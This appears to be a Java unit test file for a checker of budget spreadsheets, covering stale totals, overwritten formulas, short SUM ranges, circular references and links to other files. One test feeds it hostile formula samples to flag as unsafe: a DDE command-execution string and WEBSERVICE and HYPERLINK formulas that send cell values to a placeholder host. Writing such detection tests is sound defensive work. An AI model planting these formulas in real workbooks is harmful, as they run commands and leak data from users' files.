package id.lembarkinerja.validation;

import static org.assertj.core.api.Assertions.assertThat;

import id.lembarkinerja.workbook.GridBuilder;
import id.lembarkinerja.workbook.TextGrid;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The formulas of a workbook: what they store, where they are missing, what they leave out and where they reach. */
class FormulaChecksTest {
    private static final String BUDGET = """
            No|Uraian|Pagu (Rp)|Realisasi (Rp)|%
            1|Kegiatan a|1000|500|=D2/C2*100 -> 50
            2|Kegiatan b|2000|1500|=D3/C3*100 -> 75
            3|Kegiatan c|4000|1000|=D4/C4*100 -> 25
            4|Kegiatan d|3000|600|=D5/C5*100 -> 20
            5|Kegiatan e|5000|4000|=D6/C6*100 -> 80
            |Jumlah|=SUM(C2:C6) -> 15000|=SUM(D2:D6) -> 7600|=D7/C7*100 -> 50.6666666666667
            """;

    private static final List<String> CODES = List.of(
            "cached-value-stale",
            "formula-circular",
            "formula-external",
            "formula-unsafe",
            "formula-overwritten",
            "formula-range",
            "hidden-row-counted");

    private static Examination.Examined examine(String drawing) {
        return Desk.examine("A1", drawing);
    }

    private static List<Finding> found(Examination.Examined examined) {
        return examined.findings().stream()
                .filter(finding -> CODES.contains(finding.code()))
                .toList();
    }

    private static List<String> told(Examination.Examined examined) {
        return found(examined).stream()
                .map(one -> one.code() + "@" + one.cell() + " " + one.severity() + " " + one.expected())
                .toList();
    }

    @Test
    void a_table_whose_formulas_and_results_agree_is_silent() {
        assertThat(Desk.all(examine(BUDGET))).isEmpty();
    }

    @Test
    void a_stale_total_is_proven_and_names_what_follows_from_it() {
        Examination.Examined examined = examine(
                BUDGET.replace("-> 7600|=D7/C7*100 -> 50.6666666666667", "-> 7000|=D7/C7*100 -> 46.6666666666667"));
        assertThat(told(examined)).containsExactly("cached-value-stale@D7 ERROR 7600");
        Finding stale = found(examined).get(0);
        assertThat(stale.certainty()).isEqualTo(Finding.Certainty.ASSERT);
        assertThat(stale.message()).contains("D7", "7.600", "Ctrl+Alt+F9", "E7");
        assertThat(stale.related()).extracting(Finding.RelatedCell::cell).containsExactly("E7");
        assertThat(stale.fixes()).extracting(Finding.Fix::value).containsExactly("=SUM(D2:D6)");
    }

    @Test
    void a_result_that_shows_the_same_digits_is_no_finding() {
        GridBuilder sheet = TextGrid.sheet("Lembar", "A1", BUDGET);
        sheet.put("E2", new java.math.BigDecimal("50.3"), "0").formula("E2", "D2/C2*100");
        assertThat(found(Desk.examine(sheet))).isEmpty();
    }

    @Test
    void formulas_without_results_are_one_hint_with_what_they_give() {
        GridBuilder sheet =
                TextGrid.sheet("Lembar", "A1", BUDGET).formula("H2", "C2+D2").formula("H3", "C3+D3");
        assertThat(told(Desk.examine(sheet))).containsExactly("cached-value-stale@H2 INFO 1500");
        assertThat(found(Desk.examine(sheet)).get(0).message()).contains("H2 = 1.500", "H3 = 3.500", "simpan");
    }

    @Test
    void a_number_typed_over_one_formula_of_a_column_is_asked_with_the_formula() {
        Examination.Examined examined = examine(BUDGET.replace("=D4/C4*100 -> 25", "30"));
        assertThat(told(examined)).containsExactly("formula-overwritten@E4 WARNING 25");
        assertThat(found(examined).get(0).fixes())
                .extracting(Finding.Fix::value)
                .containsExactly("=D4/C4*100");
        assertThat(told(examine(BUDGET.replace("=D4/C4*100 -> 25", "25"))))
                .containsExactly("formula-overwritten@E4 INFO 25");
    }

    @Test
    void several_typed_numbers_among_few_formulas_are_a_habit() {
        assertThat(told(examine(BUDGET.replace("=D4/C4*100 -> 25", "30").replace("=D3/C3*100 -> 75", "70"))))
                .isEmpty();
    }

    @Test
    void a_number_typed_where_the_formula_would_give_none_is_the_way_out() {
        assertThat(told(examine(BUDGET.replace("4000|1000|=D4/C4*100 -> 25", "|1000|0")
                        .replace("-> 15000", "-> 11000")
                        .replace("50.6666666666667", "69.0909090909091"))))
                .isEmpty();
    }

    @Test
    void a_typed_total_beside_sums_is_asked() {
        assertThat(told(examine("""
                No|Uraian|Pagu (Rp)|Realisasi (Rp)|Sisa (Rp)
                1|Kegiatan a|1000|500|500
                2|Kegiatan b|2000|1500|500
                3|Kegiatan c|4000|1000|3000
                |Jumlah|=SUM(C2:C4) -> 7000|3500|4500
                """)))
                .containsExactly("formula-overwritten@D5 WARNING 3000", "formula-overwritten@E5 WARNING 4000");
    }

    @Test
    void parents_that_are_sums_say_nothing_about_typed_leaves() {
        assertThat(told(examine("""
                Kode|Program / Kegiatan|Pagu (Rp)|Realisasi (Rp)
                1|Program a|=C3 -> 100|=D3 -> 50
                1.01|Kegiatan a|=C4 -> 100|=D4 -> 50
                1.01.01|Sub kegiatan a|=C5 -> 100|=D5 -> 50
                1.01.01.1|Rincian a|100|50
                2|Program b|=C7 -> 300|=D7 -> 70
                2.01|Kegiatan b|=C8 -> 300|=D8 -> 70
                2.01.01|Sub kegiatan b|=C9 -> 300|=D9 -> 70
                2.01.01.1|Rincian b|300|70
                """))).isEmpty();
    }

    @Test
    void a_sum_that_ends_before_the_last_row_is_asked_with_the_whole_range() {
        Examination.Examined examined = examine(BUDGET.replace(
                "=SUM(D2:D6) -> 7600|=D7/C7*100 -> 50.6666666666667", "=SUM(D2:D5) -> 3600|=D7/C7*100 -> 24"));
        assertThat(told(examined)).contains("formula-range@D7 WARNING 7600");
        Finding range = found(examined).stream()
                .filter(one -> one.code().equals("formula-range"))
                .findFirst()
                .orElseThrow();
        assertThat(range.message()).contains("D6 (4000)", "7.600");
        assertThat(range.fixes()).extracting(Finding.Fix::value).containsExactly("=SUM(D2:D6)");
    }

    @Test
    void a_sum_of_parents_leaves_their_children_out_rightly() {
        assertThat(told(examine("""
                Kode|Program / Kegiatan|Pagu (Rp)
                1|Program a|100
                2|Program b|300
                3|Program c|200
                4|Program d|400
                4.01|Kegiatan d|400
                |Jumlah|=C2+C3+C4+C5 -> 1000
                """))).isEmpty();
    }

    @Test
    void a_hidden_row_in_a_sum_is_told_once() {
        assertThat(told(Desk.examine(TextGrid.sheet("Lembar", "A1", BUDGET).hideRow(4))))
                .containsExactly("hidden-row-counted@C7 INFO ");
    }

    @Test
    void a_circle_is_an_error_with_its_way() {
        Examination.Examined examined = examine(BUDGET.replace("=SUM(D2:D6)", "=SUM(D2:D7)"));
        assertThat(told(examined)).contains("formula-circular@D7 ERROR ");
        assertThat(found(examined).get(0).message()).contains("D7 memuat selnya sendiri");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"'[realisasi 2024.xlsx]Triwulan IV'!H12", "[1]Sheet1!$D$5*2", "SUM('C:\\data\\[x.xlsx]A'!D1:D5)"
            })
    void a_figure_from_another_file_is_told(String formula) {
        GridBuilder sheet = TextGrid.sheet("Lembar", "A1", BUDGET).formula("C2", formula);
        assertThat(told(Desk.examine(sheet))).containsExactly("formula-external@C2 INFO ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cmd|'/c calc'!A0",
                "'cmd|/c calc'!A0",
                "WEBSERVICE(\"http://x/\"&D2)",
                "_xlfn.WEBSERVICE(D2)",
                "HYPERLINK(\"http://x/?v=\"&D2,\"buka\")",
                "HYPERLINK(\"file://server/a\",\"buka\")",
                "CALL(\"a\",\"b\",\"c\")"
            })
    void a_formula_that_reaches_out_is_unsafe(String formula) {
        GridBuilder sheet = TextGrid.sheet("Lembar", "A1", BUDGET).formula("C2", formula);
        assertThat(told(Desk.examine(sheet))).containsExactly("formula-unsafe@C2 WARNING ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "HYPERLINK(\"https://drive.google.com/x\",\"Data dukung\")",
                "HYPERLINK(\"#'Lembar'!A1\",\"Kembali\")",
                "SUM(Tabel1[Pagu])",
                "Tabel1[[#This Row],[Pagu]]*2",
                "IF(D2=\"a|b\",1,2)",
                "\"[1]x!\""
            })
    void ordinary_links_tables_and_texts_are_neither_outside_nor_unsafe(String formula) {
        GridBuilder sheet = TextGrid.sheet("Lembar", "A1", BUDGET).formula("C2", formula);
        assertThat(found(Desk.examine(sheet)))
                .extracting(Finding::code)
                .doesNotContain("formula-external", "formula-unsafe");
    }
}
